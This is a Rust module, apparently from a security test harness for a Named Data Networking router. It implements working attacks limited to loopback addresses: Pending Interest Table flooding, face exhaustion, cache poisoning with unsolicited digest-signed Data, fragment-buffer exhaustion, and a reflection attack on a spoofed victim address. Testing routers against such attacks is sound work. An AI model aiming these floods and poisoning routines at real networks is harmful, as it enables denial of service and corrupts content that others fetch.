//! Attacks by datagrams.

use std::collections::BTreeMap;
use std::io;
use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

use namely_security::{Signer, sign_data};
use namely_wire::{
    DataBuilder, InterestBuilder, LpFraming, LpHeaders, Name, PACKET_OCTETS_MAX, encode_lp_header,
};

use super::pace::{Done, End, STEP, name, nonce};
use crate::attacks::Place;

/// Interests that pend, in all.
const INTERESTS: u64 = 300_000;

/// Peers that send them, each at an address of its own.
const PEERS: u64 = 12;

/// An hour.
const LIFETIME_MS: u64 = 3_600_000;

/// Datagrams that each make a face.
const SOURCES: u64 = 10_000;

/// Objects of which false packets are pushed in a second: faster than the honest fetch, slow enough
/// that the producer, which is asked for them, is not what is attacked.
const OBJECTS_PER_SECOND: f64 = 100.0;

/// Content of a first fragment, octets.
const FRAGMENT_OCTETS: usize = 1000;

/// First fragments: twice what all faces together may keep.
const FRAGMENTS: u64 = 128 * 1024;

/// Peers that send them.
const FRAGMENT_PEERS: u64 = 256;

/// Interests a second in the name of an address that asked for nothing: 0.4 MB/s.
const REFLECTED_PER_SECOND: f64 = 7000.0;

/// The number of that address among the attacker's: others make faces.
const VICTIM: u64 = SOURCES;

/// An address of this machine's own net that is the attacker's alone.
fn source(number: u64) -> Ipv4Addr {
    let number = number as u32;
    Ipv4Addr::from(u32::from(Ipv4Addr::new(127, 1, 0, 1)).wrapping_add(number))
}

fn peer(place: &Place, address: Ipv4Addr) -> io::Result<UdpSocket> {
    let socket = UdpSocket::bind((address, 0))?;
    // A full buffer of this end's is no reason to wait.
    socket.set_nonblocking(true)?;
    socket.connect(place.udp)?;
    Ok(socket)
}

/// Interests of an hour, half of them for segments past the end of an object, half below a prefix
/// whose upstream is silent. All peers but one go before the end.
pub(super) fn pit(place: &Place, end: &End) -> io::Result<Done> {
    let (object, silent) = (name(&place.object)?, name(&place.silent)?);
    let mut peers = Vec::new();
    for n in 0..PEERS {
        peers.push(peer(place, source(n))?);
    }
    let sent = end.spread(INTERESTS, 0.75, |n| {
        let absent = 1_000_000 + n;
        let name =
            if n % 2 == 0 { object.join_segment(absent) } else { silent.join_generic(absent.to_string()) };
        let interest = InterestBuilder::new(name).nonce(nonce(n)).lifetime_ms(LIFETIME_MS).build();
        peers[(n % PEERS) as usize].send(&interest).map(|_| ())
    });
    peers.truncate(1);
    end.wait();
    Ok(BTreeMap::from([("interests", sent)]))
}

/// Two octets from each of ten thousand addresses.
pub(super) fn faces(place: &Place, end: &End) -> io::Result<Done> {
    let sent = end.spread(SOURCES, 0.75, |n| peer(place, source(n))?.send(&[0x64, 0]).map(|_| ()));
    end.wait();
    Ok(BTreeMap::from([("sources", sent)]))
}

/// Data from a peer that was not asked: metadata, manifest and first segment of what the honest
/// will ask for next. Another peer asks for them first, so that something pends.
pub(super) fn poison(place: &Place, end: &End) -> io::Result<Done> {
    let (asker, poisoner) = (peer(place, source(0))?, peer(place, source(1))?);
    let objects = (end.length.as_secs_f64() * OBJECTS_PER_SECOND) as u64;
    let pushed = end.spread(objects.min(place.fresh_objects), 0.9, |n| {
        for (number, (asked, data)) in (n * 3..).zip(poisoned(place, n)?) {
            asker.send(&asked.nonce(nonce(number)).lifetime_ms(1000).build())?;
            poisoner.send(&data)?;
            // The router reads one socket after the other: once more behind the Interest.
            std::thread::sleep(Duration::from_micros(300));
            poisoner.send(&data)?;
        }
        Ok(())
    });
    end.wait();
    Ok(BTreeMap::from([("objects", pushed)]))
}

/// For each packet by which object `n` is found: an Interest, and false Data.
fn poisoned(place: &Place, n: u64) -> io::Result<[(InterestBuilder, Vec<u8>); 3]> {
    use namely_security::manifest_name;
    use namely_wire::rdr::{discovery_name, metadata_name};
    let object = name(&format!("{}/{n}", place.fresh))?;
    let versioned = name(&format!("{}/{n}/{}", place.fresh, place.fresh_version))?;
    let metadata = metadata_name(object.as_name(), u64::MAX / 2);
    let question = discovery_name(object.as_name());
    let manifest = manifest_name(versioned.as_name(), 0);
    let segment = versioned.join_segment(0);
    let exact = |name: &Name| InterestBuilder::new(name.clone());
    Ok([
        (InterestBuilder::new(question).can_be_prefix().must_be_fresh(), lie(&metadata)?),
        (exact(&manifest), lie(&manifest)?),
        (exact(&segment), lie(&segment)?),
    ])
}

/// Data of a name with a digest in the place of a signature, fresh for an hour.
fn lie(name: &Name) -> io::Result<Vec<u8>> {
    let builder = DataBuilder::new(name.as_name()).freshness_ms(LIFETIME_MS);
    sign_data(&builder, b"not what you asked for", &Signer::digest_sha256()).map_err(io::Error::other)
}

/// First fragments of packets whose others never come.
pub(super) fn fragments(place: &Place, end: &End) -> io::Result<Done> {
    let mut peers = Vec::new();
    for n in 0..FRAGMENT_PEERS {
        peers.push(peer(place, source(n))?);
    }
    let content = vec![0x55; FRAGMENT_OCTETS];
    let frag_count = (PACKET_OCTETS_MAX / FRAGMENT_OCTETS) as u64;
    let sent = end.spread(FRAGMENTS, 0.9, |n| {
        let framing = LpFraming { sequence: Some(n * 16), frag_index: 0, frag_count, ..LpFraming::default() };
        let mut frame = Vec::new();
        encode_lp_header(&LpHeaders::default(), &framing, None, Some(content.len()), &mut frame);
        frame.extend_from_slice(&content);
        peers[(n % FRAGMENT_PEERS) as usize].send(&frame).map(|_| ())
    });
    end.wait();
    Ok(BTreeMap::from([("fragments", sent)]))
}

/// Interests for segments of an object that is cached, from an address that answers nothing: to the
/// router it is one whose owner asked for nothing. What arrives there is counted.
pub(super) fn reflection(place: &Place, end: &End) -> io::Result<Done> {
    let (object, victim) = (name(&place.object)?, peer(place, source(VICTIM))?);
    victim.set_nonblocking(false)?;
    victim.set_read_timeout(Some(STEP))?;
    let (mut sent_octets, arrived, end) = (0, victim.try_clone()?, *end);
    let started = std::time::Instant::now();
    // All the time, since a socket's buffer holds little of what may come.
    let reading = std::thread::spawn(move || {
        let (mut victim_octets, mut datagram) = (0, vec![0; 1 << 16]);
        while end.is_ahead() {
            victim_octets += arrived.recv(&mut datagram).map_or(0, |octets| octets as u64);
        }
        victim_octets
    });
    let interests = (end.length.as_secs_f64() * REFLECTED_PER_SECOND) as u64;
    let sent = end.spread(interests, 1.0, |n| {
        let segment = object.join_segment(n % place.segments.max(1));
        let interest = InterestBuilder::new(segment).nonce(nonce(n)).lifetime_ms(1000).build();
        sent_octets += interest.len() as u64;
        victim.send(&interest).map(|_| ())
    });
    let victim_octets = reading.join().map_err(|_| io::Error::other("what counts what arrives has ended"))?;
    let kbit_s = (victim_octets as f64 * 8.0 / 1000.0 / started.elapsed().as_secs_f64()) as u64;
    Ok(BTreeMap::from([
        ("interests", sent),
        ("sent_octets", sent_octets),
        ("victim_octets", victim_octets),
        ("victim_kbit_s", kbit_s),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sources_differ_and_stay_on_this_machine() {
        let addresses: std::collections::BTreeSet<_> = (0..SOURCES).map(source).collect();
        assert_eq!(addresses.len() as u64, SOURCES);
        assert!(addresses.iter().all(|a| a.is_loopback() && *a != Ipv4Addr::LOCALHOST));
    }
}
